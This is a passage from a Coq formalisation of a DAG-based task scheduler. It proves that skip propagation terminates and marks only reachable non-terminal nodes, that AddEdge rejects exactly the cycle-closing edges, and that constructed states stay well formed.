  rewrite Hn in Hm. injection Hm as <-. rewrite Hs in Hf. discriminate.
Qed.

Lemma skipClosed_trans s1 s2 s3 :
  skips s1 s2 -> skips s2 s3 ->
  skipClosed s1 s2 -> skipClosed s2 s3 -> skipClosed s1 s3.
Proof.
  intros H12 H23 C12 C23 x y Hnt Hs He.
  pose proof H12 as [Hg12 St12]. pose proof H23 as [Hg23 St23].
  destruct (St12 x) as [E|(_ & E & _)].
  - eapply C23; [| done | by apply (sameGraph_blocksEdge s1 s2)].
    apply nonTerminalAt_statusOf. apply nonTerminalAt_statusOf in Hnt.
    by rewrite E.
  - eapply promotes_terminalAt; [exact H23 | done |].
    by eapply C12.
Qed.

Lemma skipLoop_post (step : DAGState -> string -> option DAGState) :
  (forall t c t', step t c = Some t' ->
     skips t t' /\ terminalAt t' c /\ skipClosed t t') ->
  forall l t t', forEach step t l = Some t' ->
    skips t t' /\ (forall c, c ∈ l -> terminalAt t' c) /\ skipClosed t t'.
Proof.
  intros Hstep. induction l as [|c l IH]; intros t t'; simpl.
  - intros [= <-]. split; [apply promotes_refl|].
    split; [by intros ? ?%elem_of_nil | apply skipClosed_refl].
  - destruct (step t c) as [t1|] eqn:E; [|done].
    intros Hl. apply Hstep in E as (H1 & Hc & C1).
    apply IH in Hl as (H2 & Hall & C2).
    split; [by eapply promotes_trans|]. split; [|by eapply skipClosed_trans].
    intros c' [->|Hin]%elem_of_cons; [|by apply Hall].
    by eapply promotes_terminalAt.
Qed.

Lemma propagateSkip_post fuel :
  forall s id s', propagateSkip fuel s id = Some s' ->
    skips s s' /\ terminalAt s' id /\ skipClosed s s'.
Proof.
  induction fuel as [|fuel IH]; intros s id s'; simpl; [done|].
  destruct (Nodes s !! id) as [node|] eqn:Hid.
  - destruct (IsTerminal (Status node)) eqn:Ht.
    + intros [= <-]. split; [apply promotes_refl|].
      split; [|apply skipClosed_refl]. intros n Hn. congruence.
    + intros Hl. apply (skipLoop_post _ IH) in Hl as (H1 & Hall & C1).
      set (s1 := updNode id (withStatus StatusSkipped) s) in *.
      assert (H01 : skips s s1).
      { split; [apply sameGraph_updNode_status|].
        intros x. unfold s1. rewrite statusOf_updNode_status.
        case_decide; [subst x|by left].
        right. rewrite Hid. split; [by exists node|done]. }
      assert (Hs1 : statusOf s1 id = Some StatusSkipped).
      { unfold s1. rewrite statusOf_updNode_status.
        case_decide; [|done]. by rewrite Hid. }
      split; [by eapply promotes_trans|]. split.
      * apply terminalAt_statusOf. intros st Hst.
        erewrite (promotes_terminal _ _ s1 s' id) in Hst; [|done..].
        by injection Hst as <-.
      * intros x y Hnt Hsk He.
        destruct (decide (x = id)) as [->|Hne].
        -- apply Hall. destruct He as (m & Hm & Hy). congruence.
        -- eapply C1; [|done|by apply (sameGraph_blocksEdge s s1); [apply H01|]].
           apply nonTerminalAt_statusOf. apply nonTerminalAt_statusOf in Hnt.
           unfold s1. rewrite statusOf_updNode_status. by case_decide.
  - intros [= <-]. split; [apply promotes_refl|].
    split; [|apply skipClosed_refl]. intros n Hn. congruence.
Qed.

Lemma elem_of_liveSet s x : x ∈ liveSet s <-> nonTerminalAt s x.
Proof.
  unfold liveSet, nonTerminalAt. rewrite elem_of_dom. unfold is_Some.
  setoid_rewrite map_lookup_filter_Some. naive_solver.
Qed.

Lemma liveSet_skips s s' : skips s s' -> liveSet s' ⊆ liveSet s.
Proof.
  intros [_ H] x. rewrite !elem_of_liveSet, !nonTerminalAt_statusOf.
  intros (st & Hst & Hf). destruct (H x) as [E|(_ & E & _)].
  - exists st. by rewrite <- E.
  - rewrite E in Hst. injection Hst as <-. discriminate.
Qed.

Lemma liveSet_size s : (size (liveSet s) <= size (Nodes s))%nat.
Proof.
  rewrite <- size_dom. apply subseteq_size.
  intros x (n & Hn & _)%elem_of_liveSet. apply elem_of_dom; eauto.
Qed.

Lemma liveSet_skip_node s id node :
  Nodes s !! id = Some node -> IsTerminal (Status node) = false ->
  (size (liveSet (updNode id (withStatus StatusSkipped) s)) < size (liveSet s))%nat.
Proof.
  intros Hid Hf. apply subset_size. apply strict_spec_alt. split.
  - intros x. rewrite !elem_of_liveSet, !nonTerminalAt_statusOf.
    intros (st & Hst & Hnt). rewrite statusOf_updNode_status in Hst.
    case_decide; [subst x|eauto].
    rewrite Hid in Hst. injection Hst as <-. discriminate.
  - intros Heq.
    assert (id ∈ liveSet s) as Hin by (apply elem_of_liveSet; by exists node).
    rewrite <- Heq in Hin.
    apply elem_of_liveSet, nonTerminalAt_statusOf in Hin as (st & Hst & Hnt).
    rewrite statusOf_updNode_status in Hst.
    case_decide; [|done]. rewrite Hid in Hst. injection Hst as <-. discriminate.
Qed.

(** Every call that goes past its guard makes one more stored node
    terminal: the recursion is no deeper than the number of stored
    non-terminal nodes. *)
Lemma propagateSkip_returns fuel :
  forall s id, (size (liveSet s) < fuel)%nat ->
    exists s', propagateSkip fuel s id = Some s'.
Proof.
  induction fuel as [|fuel IH]; intros s id Hfuel; [lia|]. simpl.
  destruct (Nodes s !! id) as [node|] eqn:Hid; [|eauto].
  destruct (IsTerminal (Status node)) eqn:Ht; [eauto|].
  pose proof (liveSet_skip_node s id node Hid Ht) as Hlt.
  destruct (forEach_invariant (propagateSkip fuel)
              (fun t => (size (liveSet t) < fuel)%nat) (Blocks node))
    with (s := updNode id (withStatus StatusSkipped) s) as (s' & Hs' & _);
    [|lia|eauto].
  intros t c _ Ht'. destruct (IH t c Ht') as [t' Hc]. exists t'. split; [done|].
  apply propagateSkip_post in Hc as (Hsk & _).
  pose proof (subseteq_size _ _ (liveSet_skips t t' Hsk)). lia.
Qed.

(** The third scenario: a -> b -> c; a done makes b ready; b failed makes
    c skipped, and the DAG is complete with status failed. *)
Example failure_propagation :
  statusOf doneA "b" = Some StatusReady /\
  statusOf failedB "c" = Some StatusSkipped /\
  IsComplete failedB = true /\ dagStatus failedB = DAGFailed.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** *** UpdateNodeStatus with failed *)

(** [propagateSkip] changes no node that it does not reach: a skipped node
    lies on a live path from the node the call started at. *)

Lemma skips_nonTerminalAt s t x : skips s t -> nonTerminalAt t x -> nonTerminalAt s x.
Proof.
  intros [_ H] Hx. destruct (H x) as [E|(? & _)]; [|done].
  apply nonTerminalAt_statusOf. apply nonTerminalAt_statusOf in Hx.
  by rewrite <- E.
Qed.

Lemma skips_liveEdge s t x y : skips s t -> liveEdge t x y -> liveEdge s x y.
Proof.
  intros Hsk [He Hy]. split.
  - by apply (sameGraph_blocksEdge s t); [apply Hsk|].
  - by eapply skips_nonTerminalAt.
Qed.

Lemma livePath_mono (s t : DAGState) x y :
  (forall a b, liveEdge t a b -> liveEdge s a b) ->
  livePath t x y -> livePath s x y.
Proof.
  intros Hsub Hp. induction Hp as [x y He|x y z He _ IH].
  - apply tc_once. by apply Hsub.
  - eapply tc_l; [by apply Hsub | done].
Qed.

Lemma skipReach_skips s t c x : skips s t -> skipReach t c x -> skipReach s c x.
Proof.
  intros Hsk [Hc Hx]. split; [by eapply skips_nonTerminalAt|].
  destruct Hx as [->|Hp]; [by left|right].
  eapply livePath_mono; [|done]. intros a b. by apply skips_liveEdge.
Qed.

Lemma skipLoop_reach (step : DAGState -> string -> option DAGState) :
  (forall t c t', step t c = Some t' ->
     promotes StatusSkipped (skipReach t c) t t') ->
  forall l t t', forEach step t l = Some t' ->
    promotes StatusSkipped (fun x => exists c, c ∈ l /\ skipReach t c x) t t'.
Proof.
  intros Hstep. induction l as [|c l IH]; intros t t'; simpl.
  - intros [= <-]. apply promotes_refl.
  - destruct (step t c) as [t1|] eqn:E; [|done].
    intros Hl. apply Hstep in E. apply IH in Hl.
    eapply promotes_trans.
    + eapply promotes_cond; [|exact E].
      intros x Hx. exists c. split; [left|done].
    + eapply promotes_cond; [|exact Hl].
      intros x (c' & Hin & Hx). exists c'. split; [by right|].
      eapply skipReach_skips; [|done].
      eapply promotes_cond; [|exact E]. done.
Qed.

Lemma propagateSkip_reach fuel :
  forall s id s', propagateSkip fuel s id = Some s' ->
    promotes StatusSkipped (skipReach s id) s s'.
Proof.
  induction fuel as [|fuel IH]; intros s id s'; simpl; [done|].
  destruct (Nodes s !! id) as [node|] eqn:Hid;
    [|intros [= <-]; apply promotes_refl].
  destruct (IsTerminal (Status node)) eqn:Ht;
    [intros [= <-]; apply promotes_refl|].
  intros Hl. apply (skipLoop_reach _ IH) in Hl.
  set (s1 := updNode id (withStatus StatusSkipped) s) in *.
  assert (Hnt : nonTerminalAt s id) by (by exists node).
  assert (H01 : promotes StatusSkipped (skipReach s id) s s1).
  { split; [apply sameGraph_updNode_status|].
    intros x. unfold s1. rewrite statusOf_updNode_status.
    case_decide; [subst x|by left].
    right. rewrite Hid. split; [done|]. split; [done|]. split; [done|by left]. }
  eapply promotes_trans; [exact H01|].
  eapply promotes_cond; [|exact Hl].
  intros x (c & Hin & Hc).
  assert (Hsk : skips s s1) by (eapply promotes_cond; [|exact H01]; done).
  apply (skipReach_skips s s1) in Hc as [Hc Hx]; [|done].
  assert (He : liveEdge s id c).
  { split; [|done]. exists node. done. }
  split; [done|]. right.
  destruct Hx as [->|Hp]; [by apply tc_once | by eapply tc_l].
Qed.

(** What [UpdateNodeStatus n failed] does to the statuses. *)
Lemma UpdateNodeStatus_failed_post (s : DAGState) (n : string) (node : Node) :
  Nodes s !! n = Some node ->
  exists s', UpdateNodeStatus s n StatusFailed = Some s' /\
    statusOf s' n = Some StatusFailed /\
    (forall d, livePath s n d -> d <> n -> statusOf s' d = Some StatusSkipped) /\
    (forall x, x <> n -> ~ livePath s n x -> statusOf s' x = statusOf s x) /\
    (forall x st, x <> n -> statusOf s x = Some st -> IsTerminal st = true ->
                  statusOf s' x = Some st).
Proof.
  intros Hn. unfold UpdateNodeStatus. rewrite Hn. cbv zeta.
  rewrite (bool_decide_eq_false_2 (StatusFailed = StatusDone)) by discriminate.
  rewrite (bool_decide_eq_true_2 (StatusFailed = StatusFailed)) by done.
  set (s1 := updNode n (withStatus StatusFailed) s).
  assert (H1n : statusOf s1 n = Some StatusFailed).
  { unfold s1. rewrite statusOf_updNode_status. case_decide; [|done]. by rewrite Hn. }
  assert (H1x : forall x, x <> n -> statusOf s1 x = statusOf s x).
  { intros x Hx. unfold s1. rewrite statusOf_updNode_status. by case_decide. }
  destruct (forEach_invariant (propagateSkip (propagateSkipFuel s1))
              (fun t => skips s1 t) (Blocks node)) with (s := s1)
    as (s3 & Hs3 & _); [|apply promotes_refl|].
  { intros t c _ Ht.
    destruct (propagateSkip_returns (propagateSkipFuel s1) t c) as [t' Hc].
    - pose proof (subseteq_size _ _ (liveSet_skips s1 t Ht)).
      pose proof (liveSet_size s1). unfold propagateSkipFuel. lia.
    - exists t'. split; [done|].
      apply propagateSkip_post in Hc as (Hsk & _). by eapply promotes_trans. }
  rewrite Hs3. eexists. split; [done|].
  pose proof (skipLoop_reach _ (propagateSkip_reach (propagateSkipFuel s1))
                _ _ _ Hs3) as Hreach.
  apply (skipLoop_post _ (propagateSkip_post (propagateSkipFuel s1))) in Hs3
    as (Hsk & Hall & Hcl).
  setoid_rewrite statusOf_refreshStatus.
  split; [by eapply promotes_terminal|].
  assert (Hnt1 : forall x, nonTerminalAt s1 x -> x <> n /\ nonTerminalAt s x).
  { intros x Hx. assert (x <> n) as Hne.
    { intros ->. apply nonTerminalAt_statusOf in Hx as (st & Hst & Hf).
      rewrite H1n in Hst. by injection Hst as <-. }
    split; [done|]. apply nonTerminalAt_statusOf.
    rewrite <- H1x by done. by apply nonTerminalAt_statusOf. }
  split; [|split].
  - assert (Hstep : forall x y,
      x = n \/ (nonTerminalAt s1 x /\ statusOf s3 x = Some StatusSkipped) ->
      liveEdge s x y ->
      y = n \/ (nonTerminalAt s1 y /\ statusOf s3 y = Some StatusSkipped)).
    { intros x y Hx [He Hy].
      destruct (decide (y = n)) as [->|Hne]; [by left|right].
      assert (Hy1 : nonTerminalAt s1 y).
      { apply nonTerminalAt_statusOf. rewrite H1x by done.
        by apply nonTerminalAt_statusOf. }
      split; [done|].
      assert (Hty : terminalAt s3 y).
      { destruct Hx as [->|[Hx Hxs]].
        - apply Hall. destruct He as (m & Hm & Hin). congruence.
        - apply (Hcl x y Hx Hxs).
          by apply (sameGraph_blocksEdge s s1); [apply sameGraph_updNode_status|]. }
      destruct Hsk as [_ Hsk]. destruct (Hsk y) as [E|(_ & E & _)]; [|done].
      apply nonTerminalAt_statusOf in Hy1 as (st & Hst & Hf).
      rewrite terminalAt_statusOf in Hty.
      rewrite (Hty st) in Hf; [done | congruence]. }
    assert (Hpath : forall x d, tc (liveEdge s) x d ->
      x = n \/ (nonTerminalAt s1 x /\ statusOf s3 x = Some StatusSkipped) ->
      d = n \/ (nonTerminalAt s1 d /\ statusOf s3 d = Some StatusSkipped)).
    { intros x d Hp. induction Hp as [x y He|x y z He _ IH]; intros Hx.
      - by eapply Hstep.
      - apply IH. by eapply Hstep. }
    intros d Hp Hne. destruct (Hpath n d Hp) as [?|[_ ?]]; [by left|done..].
  - intros x Hx Hno. rewrite <- H1x by done.
    destruct Hreach as [_ Hreach].
    destruct (Hreach x) as [E|(_ & _ & c & Hin & Hc & Hcx)]; [done|].
    destruct Hno.
    assert (Hsub : forall a b, liveEdge s1 a b -> liveEdge s a b).
    { intros a b [He Hb]. split.
      - by apply (sameGraph_blocksEdge s s1); [apply sameGraph_updNode_status|].
      - by apply Hnt1. }
    assert (He : liveEdge s n c).
    { split; [by exists node | by apply Hnt1]. }
    destruct Hcx as [->|Hp]; [by apply tc_once|].
    eapply tc_l; [exact He|]. by eapply livePath_mono.
  - intros x st Hx Hst Ht. eapply promotes_terminal; [exact Hsk| |done].
    by rewrite H1x.
Qed.




(** *** AddEdge *)

(** C4. When both endpoints are stored, [AddEdge depID nodeID] returns.
    It returns an error exactly when [depID] is reachable from [nodeID]
    through [Blocks] (in zero or more steps, so also when the two are the
    same node); with an error the state is the one it was given; without
    one, [depID] has been appended to the [DependsOn] of [nodeID],
    [nodeID] to the [Blocks] of [depID], and no other node has changed. *)
Theorem AddEdge_rejects_exactly_cycles (s : DAGState) (depID nodeID : string)
    (dep node : Node) :
  Nodes s !! depID = Some dep ->
  Nodes s !! nodeID = Some node ->
  exists s' err,
    AddEdge s depID nodeID = Some (s', err) /\
    (is_Some err <-> blocksPath s nodeID depID) /\
    (is_Some err -> s' = s) /\
    (err = None ->
       Nodes s' !! nodeID = Some (withDependsOn (DependsOn node ++ [depID]) node) /\
       Nodes s' !! depID = Some (withBlocks (Blocks dep ++ [nodeID]) dep) /\
       forall id, id <> nodeID -> id <> depID -> Nodes s' !! id = Nodes s !! id).
Proof.
  intros Hdep Hnode. unfold AddEdge. rewrite Hdep, Hnode.
  destruct (hasPath_decides s nodeID depID) as (b & v & -> & Hb).
  destruct b.
  - eexists _, _. split; [done|]. split; [|split]; [|done|done].
    split; [intros _; by apply Hb | eauto].
  - eexists _, _. split; [done|].
    assert (Hnp : ~ blocksPath s nodeID depID) by (intros Hp; apply Hb in Hp; done).
    assert (Hne : nodeID <> depID) by (intros ->; apply Hnp, rtc_refl).
    split; [|split].
    + split; [by intros [? ?] | done].
    + by intros [? ?].
    + intros _. rewrite !lookup_updNode.
      repeat case_decide; try congruence. rewrite Hnode, Hdep.
      split; [done|]. split; [done|].
      intros id Hid1 Hid2. rewrite !lookup_updNode.
      repeat case_decide; congruence.
Qed.

Lemma AddEdge_rejects_exactly_cycles_witness :
  exists s' err,
    AddEdge chainXYZ "z" "x" = Some (s', err) /\
    (is_Some err <-> blocksPath chainXYZ "x" "z") /\
    (is_Some err -> s' = chainXYZ) /\
    (err = None ->
       Nodes s' !! "x" =
         Some (withDependsOn (DependsOn (testNode "x" "X" "" "pending") ++ ["z"])
                             (withBlocks ["y"] (testNode "x" "X" "" "pending"))) /\
       Nodes s' !! "z" =
         Some (withBlocks (Blocks (testNode "z" "Z" "" "pending") ++ ["x"])
                          (withDependsOn ["y"] (testNode "z" "Z" "" "pending"))) /\
       forall id, id <> "x" -> id <> "z" -> Nodes s' !! id = Nodes chainXYZ !! id).
Proof.
  apply (AddEdge_rejects_exactly_cycles chainXYZ "z" "x"
           (withDependsOn ["y"] (testNode "z" "Z" "" "pending"))
           (withBlocks ["y"] (testNode "x" "X" "" "pending")));
    vm_compute; reflexivity.
Defined.

(** *** Counting *)

Lemma countIf_app p (l1 l2 : list string) :
  countIf p (l1 ++ l2) = (countIf p l1 + countIf p l2)%nat.
Proof. induction l1 as [|x l1 IH]; simpl; [done|]. rewrite IH. lia. Qed.

Lemma countIf_ext p q l :
  (forall x, x ∈ l -> p x = q x) -> countIf p l = countIf q l.
Proof.
  induction l as [|x l IH]; intros H; simpl; [done|].
  rewrite (H x) by left. rewrite IH; [done|]. intros y Hy. apply H. by right.
Qed.

Lemma countIf_zero p l :
  countIf p l = O <-> forall x, x ∈ l -> p x = false.
Proof.
  induction l as [|x l IH]; simpl.
  - split; [by intros _ ? ?%elem_of_nil | done].
  - split.
    + intros H y [->|Hy]%elem_of_cons.
      * destruct (p x); [simpl in H; lia | done].
      * apply IH; [|done]. destruct (p x); simpl in H; lia.
    + intros H. rewrite (H x) by left. simpl. apply IH.
      intros y Hy. apply H. by right.
Qed.

Lemma countIf_pos p l :
  (0 < countIf p l)%nat <-> exists x, x ∈ l /\ p x = true.
Proof.
  induction l as [|x l IH]; simpl.
  - split; [lia | by intros (? & ?%elem_of_nil & _)].
  - destruct (p x) eqn:E; simpl.
    + split; [|lia]. intros _. exists x. split; [left | done].
    + rewrite IH. split.
      * intros (y & Hy & Hp). exists y. split; [by right | done].
      * intros (y & [->|Hy]%elem_of_cons & Hp); [congruence | eauto].
Qed.

Lemma countIf_all l : countIf (fun _ => true) l = length l.
Proof. induction l as [|x l IH]; simpl; [done|]. by rewrite IH. Qed.

Lemma occ_app x (l1 l2 : list string) : occ x (l1 ++ l2) = (occ x l1 + occ x l2)%nat.
Proof. apply countIf_app. Qed.

Lemma occ_pos x l : (0 < occ x l)%nat <-> x ∈ l.
Proof.
  unfold occ. rewrite countIf_pos. split.
  - by intros (y & Hy & ->%bool_decide_eq_true).
  - intros Hx. exists x. split; [done|]. by apply bool_decide_eq_true.
Qed.

Lemma occ_zero x l : occ x l = O <-> x ∉ l.
Proof. rewrite <- occ_pos. lia. Qed.

(** Occurrences of members of a duplicate-free list [Q], counted member
    by member. *)
Lemma countIf_in_cons q Q l :
  q ∉ Q ->
  countIf (fun d => bool_decide (d ∈ q :: Q)) l =
  (occ q l + countIf (fun d => bool_decide (d ∈ Q)) l)%nat.
Proof.
  intros Hq. induction l as [|d l IH]; simpl; [done|].
  unfold occ in *; simpl. rewrite IH.
  destruct (decide (d = q)) as [->|Hne].
  - rewrite !bool_decide_eq_true_2 by (done || left).
    rewrite (bool_decide_eq_false_2 (q ∈ Q)) by done. lia.
  - rewrite (bool_decide_eq_false_2 (d = q)) by done.
    destruct (decide (d ∈ Q)).
    + rewrite !bool_decide_eq_true_2 by (done || by right). lia.
    + rewrite !bool_decide_eq_false_2; [lia | done |].
      by intros [?|?]%elem_of_cons.
Qed.

(** Dependencies outside [P] are either in [Q] or outside both, when [P]
    and [Q] are disjoint. *)
Lemma countIf_not_in_app (P Q l : list string) :
  (forall x, x ∈ Q -> x ∉ P) ->
  countIf (fun d => bool_decide (d ∉ P)) l =
  (countIf (fun d => bool_decide (d ∈ Q)) l
   + countIf (fun d => bool_decide (d ∉ P ++ Q)) l)%nat.
Proof.
  intros Hdisj. induction l as [|d l IH]; simpl; [done|]. rewrite IH.
  destruct (decide (d ∈ P)) as [HP|HP], (decide (d ∈ Q)) as [HQ|HQ].
  - by apply Hdisj in HQ.
  - rewrite (bool_decide_eq_false_2 (d ∉ P)) by tauto.
    rewrite (bool_decide_eq_false_2 (d ∈ Q)) by done.
    rewrite (bool_decide_eq_false_2 (d ∉ P ++ Q)); [lia|].
    rewrite elem_of_app. tauto.
  - rewrite (bool_decide_eq_true_2 (d ∉ P)) by done.
    rewrite (bool_decide_eq_true_2 (d ∈ Q)) by done.
    rewrite (bool_decide_eq_false_2 (d ∉ P ++ Q)); [lia|].
    rewrite elem_of_app. tauto.
  - rewrite (bool_decide_eq_true_2 (d ∉ P)) by done.
    rewrite (bool_decide_eq_false_2 (d ∈ Q)) by done.
    rewrite (bool_decide_eq_true_2 (d ∉ P ++ Q)); [lia|].
    rewrite elem_of_app. tauto.
Qed.

(** *** Constructed states are well formed *)

Lemma WellFormed_new id sessionID prompt :
  WellFormed (NewDAGState id sessionID prompt).
Proof.
  split; simpl.
  - intros x n d Hx. by rewrite lookup_empty in Hx.
  - intros x n b Hx. by rewrite lookup_empty in Hx.
  - intros x y nx ny Hx. by rewrite lookup_empty in Hx.
  - intros x. constructor. intros y (node & Hn & _).
    simpl in Hn. by rewrite lookup_empty in Hn.
Qed.

(** Adding an edge that closes no cycle keeps the dependency relation
    well founded. *)
Lemma Acc_add_edge (R R' : relation string) (d n : string) :
  (forall a b, R' a b -> R a b \/ (a = d /\ b = n)) ->
  ~ rtc R n d ->
  (forall y, Acc R y) -> forall y, Acc R' y.
Proof.
  intros HR' Hnp HAcc.
  assert (Hfar : forall y, Acc R y -> ~ rtc R n y -> Acc R' y).
  { intros y Hy. induction Hy as [y _ IH]. intros Hny.
    constructor. intros z [Hz|[-> ->]]%HR'.
    - apply IH; [done|]. intros Hnz. apply Hny. by eapply rtc_r.
    - destruct Hny. apply rtc_refl. }
  intros y. induction (HAcc y) as [y _ IH].
  constructor. intros z [Hz|[-> ->]]%HR'; [by apply IH|].
  apply Hfar; [apply HAcc | exact Hnp].
Qed.

Lemma blocksEdge_depRel s x y :
  WellFormed s -> blocksEdge s x y <-> depRel s x y.
Proof.
  intros Hwf. split.
  - intros (nx & Hx & Hy).
    pose proof (wf_blocks_stored s Hwf x nx y Hx Hy) as [ny Hny]%elem_of_dom.
    exists ny. split; [done|]. apply occ_pos.
    rewrite <- (wf_agree s Hwf x y nx ny Hx Hny). by apply occ_pos.
  - intros (ny & Hy & Hx).
    pose proof (wf_deps_stored s Hwf y ny x Hy Hx) as [nx Hnx]%elem_of_dom.
    exists nx. split; [done|]. apply occ_pos.
    rewrite (wf_agree s Hwf x y nx ny Hnx Hy). by apply occ_pos.
Qed.

Lemma blocksPath_depRel s x y :
  WellFormed s -> blocksPath s x y <-> rtc (depRel s) x y.
Proof.
  intros Hwf. unfold blocksPath. split; intros H.
  - induction H as [|a b c Hab _ IH]; [apply rtc_refl|].
    eapply rtc_l; [|exact IH]. by apply blocksEdge_depRel.
  - induction H as [|a b c Hab _ IH]; [apply rtc_refl|].
    eapply rtc_l; [|exact IH]. by apply blocksEdge_depRel.
Qed.

Lemma AddNode_accepted s n :
  (AddNode s n).2 = None ->
  Nodes s !! ID n = None /\
  exists n', DependsOn n' = DependsOn n /\ Blocks n' = Blocks n /\
             Nodes (AddNode s n).1 = <[ID n := n']> (Nodes s).
Proof.
  unfold AddNode. destruct (Nodes s !! ID n) eqn:E; simpl; [done|].
  intros _. split; [done|]. eexists. split; [|split]; [| |reflexivity];
    by case_bool_decide.
Qed.

Lemma WellFormed_AddNode s n :
  WellFormed s -> DependsOn n = [] -> Blocks n = [] ->
  (AddNode s n).2 = None -> WellFormed (AddNode s n).1.
Proof.
  intros Hwf Hd Hb (Hfresh & n' & Hd' & Hb' & Hnodes)%AddNode_accepted.
  rewrite Hd in Hd'. rewrite Hb in Hb'.
  assert (Hlook : forall x nx, Nodes (AddNode s n).1 !! x = Some nx ->
            (x = ID n /\ nx = n') \/ (x <> ID n /\ Nodes s !! x = Some nx)).
  { intros x nx. rewrite Hnodes, lookup_insert. case_decide; naive_solver. }
  assert (Hdom : forall x, x ∈ dom (Nodes s) -> x ∈ dom (Nodes (AddNode s n).1)).
  { intros x. rewrite Hnodes, dom_insert_L. set_solver. }
  assert (Hnb : forall x nx, Nodes s !! x = Some nx -> ID n ∉ Blocks nx).
  { intros x nx Hx Hin. apply (wf_blocks_stored s Hwf x nx) in Hin; [|done].
    apply elem_of_dom in Hin as [? ?]. congruence. }
  assert (Hnd : forall x nx, Nodes s !! x = Some nx -> ID n ∉ DependsOn nx).
  { intros x nx Hx Hin. apply (wf_deps_stored s Hwf x nx) in Hin; [|done].
    apply elem_of_dom in Hin as [? ?]. congruence. }
  assert (Hrel : forall a b, depRel (AddNode s n).1 a b -> depRel s a b).
  { intros a b (nb & Hb0 & Ha). apply Hlook in Hb0 as [[-> ->]|[_ Hb0]].
    - rewrite Hd' in Ha. by apply elem_of_nil in Ha.
    - by exists nb. }
  split.
  - intros x nx d Hx Hin. apply Hlook in Hx as [[-> ->]|[_ Hx]].
    + rewrite Hd' in Hin. by apply elem_of_nil in Hin.
    + apply Hdom. by eapply wf_deps_stored.
  - intros x nx b Hx Hin. apply Hlook in Hx as [[-> ->]|[_ Hx]].
    + rewrite Hb' in Hin. by apply elem_of_nil in Hin.
    + apply Hdom. by eapply wf_blocks_stored.
  - intros x y nx ny Hx Hy.
    apply Hlook in Hx as [[-> ->]|[Hxn Hx]]; apply Hlook in Hy as [[-> ->]|[Hyn Hy]].
    + by rewrite Hd', Hb'.
    + rewrite Hb'. simpl. symmetry. apply occ_zero. by eapply Hnd.
    + rewrite Hd'. simpl. apply occ_zero. by eapply Hnb.
    + by eapply wf_agree.
  - intros y. pose proof (wf_acc s Hwf y) as Hy. induction Hy as [y _ IH].
    constructor. intros z Hz. by apply IH, Hrel.
Qed.

Lemma AddEdge_accepted s d n s' :
  AddEdge s d n = Some (s', None) ->
  exists dep node,
    Nodes s !! d = Some dep /\ Nodes s !! n = Some node /\ n <> d /\
    ~ blocksPath s n d /\
    forall x, Nodes s' !! x =
      if decide (x = d) then Some (withBlocks (Blocks dep ++ [n]) dep)
      else if decide (x = n) then Some (withDependsOn (DependsOn node ++ [d]) node)
      else Nodes s !! x.
Proof.
  unfold AddEdge.
  destruct (Nodes s !! d) as [dep|] eqn:Hd; [|done].
  destruct (Nodes s !! n) as [node|] eqn:Hn; [|done].
  destruct (hasPath_decides s n d) as (b & v & -> & Hb).
  destruct b; [done|]. intros [= <-].
  assert (Hnp : ~ blocksPath s n d) by (intros Hp; apply Hb in Hp; done).
  assert (Hne : n <> d) by (intros ->; apply Hnp, rtc_refl).
  exists dep, node. repeat split; try done.
  intros x. rewrite !lookup_updNode.
  repeat case_decide; subst; try congruence.
  - by rewrite Hd.
  - by rewrite Hn.
Qed.

Lemma WellFormed_AddEdge s d n s' :
  WellFormed s -> AddEdge s d n = Some (s', None) -> WellFormed s'.
Proof.
  intros Hwf (dep & node & Hd & Hn & Hne & Hnp & Hlook)%AddEdge_accepted.
  assert (Hview : forall x nx', Nodes s' !! x = Some nx' ->
    exists nx, Nodes s !! x = Some nx /\
      Blocks nx' = Blocks nx ++ (if decide (x = d) then [n] else []) /\
      DependsOn nx' = DependsOn nx ++ (if decide (x = n) then [d] else [])).
  { intros x nx'. rewrite Hlook.
    destruct (decide (x = d)) as [->|Hxd].
    - intros [= <-]. exists dep. rewrite decide_False by done.
      simpl. by rewrite app_nil_r.
    - destruct (decide (x = n)) as [->|Hxn].
      + intros [= <-]. exists node. simpl. by rewrite app_nil_r.
      + intros Hx. exists nx'. by rewrite !app_nil_r. }
  assert (Hdom : forall x, x ∈ dom (Nodes s) -> x ∈ dom (Nodes s')).
  { intros x [nx Hx]%elem_of_dom. apply elem_of_dom. rewrite Hlook.
    repeat case_decide; eauto. }
  assert (Hrel : forall a b, depRel s' a b -> depRel s a b \/ (a = d /\ b = n)).
  { intros a b (nb' & Hb' & Ha). apply Hview in Hb' as (nb & Hb & _ & HD).
    rewrite HD in Ha. apply elem_of_app in Ha as [Ha|Ha]; [left; by exists nb|].
    case_decide; [|by apply elem_of_nil in Ha].
    apply list_elem_of_singleton in Ha. by right. }
  split.
  - intros x nx' d0 Hx Hin. apply Hview in Hx as (nx & Hx & _ & HD).
    rewrite HD in Hin. apply elem_of_app in Hin as [Hin|Hin].
    + apply Hdom. by eapply wf_deps_stored.
    + case_decide; [|by apply elem_of_nil in Hin].
      apply list_elem_of_singleton in Hin as ->.
      apply Hdom, elem_of_dom. eauto.
  - intros x nx' b0 Hx Hin. apply Hview in Hx as (nx & Hx & HB & _).
    rewrite HB in Hin. apply elem_of_app in Hin as [Hin|Hin].
    + apply Hdom. by eapply wf_blocks_stored.
    + case_decide; [|by apply elem_of_nil in Hin].
      apply list_elem_of_singleton in Hin as ->.
      apply Hdom, elem_of_dom. eauto.
  - intros x y nx' ny' Hx Hy.
    apply Hview in Hx as (nx & Hx & HB & _).
    apply Hview in Hy as (ny & Hy & _ & HD).
    rewrite HB, HD, !occ_app, (wf_agree s Hwf x y nx ny Hx Hy).
    f_equal. clear Hlook Hview.
    destruct (decide (x = d)), (decide (y = n)); subst;
      unfold occ; simpl; repeat case_bool_decide; try congruence; lia.
  - apply (Acc_add_edge (depRel s) (depRel s') d n Hrel).
    + intros Hp. by apply Hnp, blocksPath_depRel.
    + apply (wf_acc s Hwf).
Qed.

Lemma Constructed_WellFormed s : Constructed s -> WellFormed s.
Proof.
  induction 1 as [| s n _ IH Hd Hb Hok | s d n s' _ IH Hok].
  - apply WellFormed_new.
  - by apply WellFormed_AddNode.
  - by eapply WellFormed_AddEdge.
Qed.

Lemma replay_Constructed ops :
  forall s s', Constructed s -> replay s ops = Some s' -> Constructed s'.
Proof.
  unfold replay. induction ops as [|op ops IH]; intros s s' Hs; simpl.
  - by intros [= <-].
  - destruct (runOp s op) as [s1|] eqn:E; [|done].
    apply IH. destruct op as [n|d n]; simpl in E.
    + case_bool_decide as Hadj; [|done]. destruct Hadj as [Hd Hb].
